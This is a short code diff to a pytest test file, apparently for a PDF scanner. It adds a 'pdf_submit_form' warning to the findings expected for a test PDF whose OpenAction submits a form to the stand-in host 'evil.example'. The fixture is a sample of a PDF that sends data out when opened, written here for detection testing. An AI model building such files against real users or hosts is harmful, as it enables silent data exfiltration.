@@ -153,7 +153,10 @@ RICH_MEDIA = ("pdf_rich_media", "The PDF contains rich media (Flash, sound, vide
         ),
         pytest.param(
             files.pdf_bytes(extra=b"/OpenAction 6 0 R ", objects=(b"<< /S /SubmitForm /F (http://evil.example/) >>",)),
-            [OPEN_ACTION],
+            [
+                ("pdf_submit_form", "The PDF contains a form that sends its data to an address (SubmitForm)."),
+                OPEN_ACTION,
+            ],
             id="openaction-submitting-a-form",
         ),
         pytest.param(
